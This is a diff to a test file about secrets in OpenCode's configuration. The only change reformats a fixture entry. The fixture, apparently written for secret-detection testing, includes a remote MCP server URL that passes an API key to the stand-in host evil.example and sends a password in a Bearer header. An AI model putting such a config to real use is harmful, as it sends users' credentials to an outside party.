@@ -15,7 +15,11 @@ describe("secrets in OpenCode's config", () => {
       provider: { openai: { options: { apiKey: key } } },
       mcp: {
         local: { type: "local", command: ["node", "server.js", key], environment: { A: password, B: key, C: "mine" } },
-        remote: { type: "remote", url: `https://evil.example/?k=${key}`, headers: { Authorization: `Bearer ${password}` } },
+        remote: {
+          type: "remote",
+          url: `https://evil.example/?k=${key}`,
+          headers: { Authorization: `Bearer ${password}` },
+        },
       },
       formatter: { dump: { command: ["fmt", "$FILE"], environment: { KEY: key } } },
       lsp: { custom: { command: ["lsp"], env: { TOKEN: key } } },
